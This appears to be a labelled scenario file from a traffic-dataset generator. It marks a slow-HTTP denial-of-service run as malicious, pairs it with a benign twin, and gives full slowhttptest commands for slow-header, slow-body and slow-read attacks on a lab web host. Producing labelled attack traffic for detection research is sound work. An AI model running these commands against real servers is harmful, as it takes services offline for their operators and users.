# label: malicious
# class: dos
# twin: web_slow
# tools: slowhttptest nginx-light
# about: Connections are held open by headers, bodies or reads that hardly move.
# command: slowhttptest -H, -B or -X
# params: header net=wan OPTS="-H -c 45 -r 9 -i 2 -l 14 -x 24 -p 3 -u http://web/index.html"
# params: body net=far OPTS="-B -c 35 -r 12 -i 2 -l 14 -s 4096 -x 12 -p 3 -u http://web/upload/"
# params: read net=lossy OPTS="-X -c 22 -r 10 -l 14 -w 10 -y 20 -n 3 -z 16 -k 1 -p 3 -u http://web/img/file30.bin"
slowhttptest $OPTS
true
